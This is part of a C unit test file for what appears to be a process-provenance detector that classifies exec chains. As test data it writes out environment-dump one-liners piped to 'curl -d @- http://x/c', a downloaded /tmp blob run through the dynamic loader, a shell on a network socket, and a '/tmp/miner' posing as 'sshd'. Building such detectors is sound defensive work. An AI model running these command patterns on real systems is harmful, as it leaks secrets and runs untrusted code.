	exec_as(w, sh, "/usr/bin/bash", ARGV("bash", "-c", "export -p | python3 fmt.py"), 0, 0, NULL);
	py = fork_of(w, sh);
	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", "fmt.py"), 71, 0, NULL);
	assert_int_equal(info_of(w, py).sends_prov, 0); /* it never connected */
}

/* An interpreter one-liner printing the whole environment is a dump, as env is. */
static void test_inline_env_dump(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *dump, *curl;
	static const char *const progs[] = {
		"print \"$_=$ENV{$_}\\n\" for keys %ENV",
		"import os; print(dict(os.environ))",
		"from os import environ; [print(k, v) for k, v in environ.items()]",
		"console.log(JSON.stringify(process.env))",
		"puts ENV.to_h",
	};
	static const char *const exes[] = { "/usr/bin/perl", "/usr/bin/python3.11",
					    "/usr/bin/python3.11", "/usr/bin/node", "/usr/bin/ruby" };
	static const char *const flags[] = { "-e", "-c", "-c", "-e", "-e" };

	for (size_t i = 0; i < sizeof(progs) / sizeof(progs[0]); i++) {
		dump = fork_of(w, shell);
		curl = fork_of(w, shell);
		exec_as(w, dump, exes[i], ARGV(strrchr(exes[i], '/') + 1, flags[i], progs[i]), 0,
			90 + i, NULL);
		exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "@-", "http://x/c"), 90 + i, 0,
			NULL);
		assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
	}
	/* one variable, or the environment handed to a child, is no dump */
	dump = fork_of(w, shell);
	curl = fork_of(w, shell);
	exec_as(w, dump, "/usr/bin/perl", ARGV("perl", "-e", "print $ENV{HOME}"), 0, 99, NULL);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "@-", "http://x/c"), 99, 0, NULL);
	assert_int_equal(info_of(w, curl).sends_prov, 0);
	dump = fork_of(w, shell);
	curl = fork_of(w, shell);
	exec_as(w, dump, "/usr/bin/python3.11",
		ARGV("python3", "-c", "import os; print(os.environ.get('CI'), os.environ['HOME'])"), 0,
		98, NULL);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "@-", "http://x/c"), 98, 0, NULL);
	assert_int_equal(info_of(w, curl).sends_prov, 0);
}

/* The dynamic loader run as a program: the program it runs is the exec's. */
static void test_loader_runs_program(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *curl, *run, *ldd, *sub, *sh;
	struct bw_exec_info e;

	curl = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-o", "/tmp/blob", "http://x/a"), 0, 0, NULL);
	file_op(w, curl, "open-write", "/tmp/blob", NULL);
	run = fork_of(w, shell);
	run->cwd = refstr_new("/tmp");
	exec_as(w, run, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
		ARGV("/lib64/ld-linux-x86-64.so.2", "--library-path", "/opt/l", "./blob", "-v"), 0, 0,
		NULL);
	e = info_of(w, run);
	assert_int_equal(e.exe_prov, BW_PROV_WRITTEN | BW_PROV_NETWORK);
	assert_string_equal(e.exe, "/tmp/blob");
	exec_as(w, run, "/usr/lib/aarch64-linux-gnu/ld-linux-aarch64.so.1",
		ARGV("ld-linux-aarch64.so.1", "--argv0", "x", "/dev/shm/../shm/y"), 0, 0, NULL);
	assert_string_equal(info_of(w, run).exe, "/dev/shm/y");
	/* a shell it runs reads its program from a pipe as any shell does */
	exec_as(w, run, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
		ARGV("/lib64/ld-linux-x86-64.so.2", "/bin/sh"), 72, 0, NULL);
	e = info_of(w, run);
	assert_int_equal(e.program_from, BW_PROG_STDIN);
	assert_string_equal(e.exe, "/bin/sh");
	/* --verify, --list and ldd's trace run nothing */
	exec_as(w, run, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
		ARGV("/lib64/ld-linux-x86-64.so.2", "--verify", "/tmp/blob"), 0, 0, NULL);
	e = info_of(w, run);
	assert_int_equal(e.exe_prov, 0);
	assert_null(e.exe);
	ldd = fork_of(w, shell);
	exec_as(w, ldd, "/usr/bin/bash", ARGV("/bin/bash", "/usr/bin/ldd", "/tmp/blob"), 0, 0, NULL);
	sub = fork_of(w, ldd);
	sh = fork_of(w, sub);
	exec_as(w, sh, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
		ARGV("/lib64/ld-linux-x86-64.so.2", "/tmp/blob"), 0, 0, NULL);
	assert_int_equal(info_of(w, sh).exe_prov, 0);
	/* no program named */
	exec_as(w, run, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
		ARGV("/lib64/ld-linux-x86-64.so.2", "--library-path"), 0, 0, NULL);
	assert_null(info_of(w, run).exe);
}

static bool mismatch(struct world *w, const char *exe, const char *filename, const char *argv0)
{
	struct bw_proc *p = fork_of(w, NULL);

	exec_as(w, p, exe, ARGV(argv0), 0, 0, NULL);
	refstr_put(p->filename);
	p->filename = refstr_new(filename);
	strncpy(p->comm, "x", sizeof(p->comm));
	return info_of(w, p).name_mismatch;
}

static void test_name_mismatch(void **state)
{
	struct world *w = *state;

	assert_true(mismatch(w, "/tmp/miner", "/tmp/miner", "sshd"));
	assert_true(mismatch(w, "/tmp/x", "/tmp/x", "[kworker/0:1]"));
	/* symlinks, login shells, interpreters of scripts */
	assert_false(mismatch(w, "/usr/bin/dash", "/bin/sh", "sh"));
	assert_false(mismatch(w, "/usr/bin/bash", "/usr/bin/bash", "-bash"));
	assert_false(mismatch(w, "/usr/bin/dash", "./configure", "/bin/sh"));
	assert_false(mismatch(w, "/tmp/tool", "/tmp/tool", "tool"));
}

/* What fd 0/1/2 are, whatever fed them. */
static void test_stdio_kinds(void **state)
{
	struct world *w = *state;
	struct bw_proc *p = fork_of(w, NULL);
	struct bw_exec_info e;

	exec_as(w, p, "/usr/bin/dash", ARGV("sh", "-i"), 0, 0, NULL);
	p->stdio[0].kind = BW_STDIO_SOCKET;
	p->stdio[0].family = AF_INET;
	p->stdio[1].kind = BW_STDIO_SOCKET;
	p->stdio[1].family = AF_UNIX;
	p->stdio[2].kind = BW_STDIO_NULL;
	e = info_of(w, p);
	assert_int_equal(e.stdin_prov, BW_PROV_SOCKET);
	assert_int_equal(e.stdout_prov, BW_PROV_LOCAL_SOCKET);
	assert_int_equal(e.stdio_prov, BW_PROV_SOCKET | BW_PROV_LOCAL_SOCKET | BW_PROV_NULL);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_pipe_either_order, setup, teardown),
		cmocka_unit_test_setup_teardown(test_pipe_writer_connects, setup, teardown),
		cmocka_unit_test_setup_teardown(test_filters_and_decoders, setup, teardown),
		cmocka_unit_test_setup_teardown(test_command_substitution, setup, teardown),
		cmocka_unit_test_setup_teardown(test_substitution_in_place, setup, teardown),
		cmocka_unit_test_setup_teardown(test_capture_evaluated, setup, teardown),
		cmocka_unit_test_setup_teardown(test_inline_script_from_parent, setup, teardown),
		cmocka_unit_test_setup_teardown(test_python_text_at_connect, setup, teardown),
		cmocka_unit_test_setup_teardown(test_copy_of_drop, setup, teardown),
		cmocka_unit_test_setup_teardown(test_link_of_drop, setup, teardown),
		cmocka_unit_test_setup_teardown(test_env_loads_drop, setup, teardown),
		cmocka_unit_test_setup_teardown(test_shared_output_pipe, setup, teardown),
		cmocka_unit_test_setup_teardown(test_dropped_files, setup, teardown),
		cmocka_unit_test_setup_teardown(test_program_from, setup, teardown),
		cmocka_unit_test_setup_teardown(test_name_mismatch, setup, teardown),
		cmocka_unit_test_setup_teardown(test_stdio_kinds, setup, teardown),
		cmocka_unit_test_setup_teardown(test_busybox_applet, setup, teardown),
		cmocka_unit_test_setup_teardown(test_connected_then_exec, setup, teardown),
		cmocka_unit_test_setup_teardown(test_stdout_file_then_connect, setup, teardown),
		cmocka_unit_test_setup_teardown(test_shell_memory_writer, setup, teardown),
		cmocka_unit_test_setup_teardown(test_environment_sent, setup, teardown),
		cmocka_unit_test_setup_teardown(test_builtin_env_sent, setup, teardown),
		cmocka_unit_test_setup_teardown(test_sourced_download, setup, teardown),
		cmocka_unit_test_setup_teardown(test_process_substitution_writer, setup, teardown),
		cmocka_unit_test_setup_teardown(test_inline_env_dump, setup, teardown),
		cmocka_unit_test_setup_teardown(test_loader_runs_program, setup, teardown),
		cmocka_unit_test_setup_teardown(test_archive_extracted, setup, teardown),
		cmocka_unit_test_setup_teardown(test_parent_fed_and_relay, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
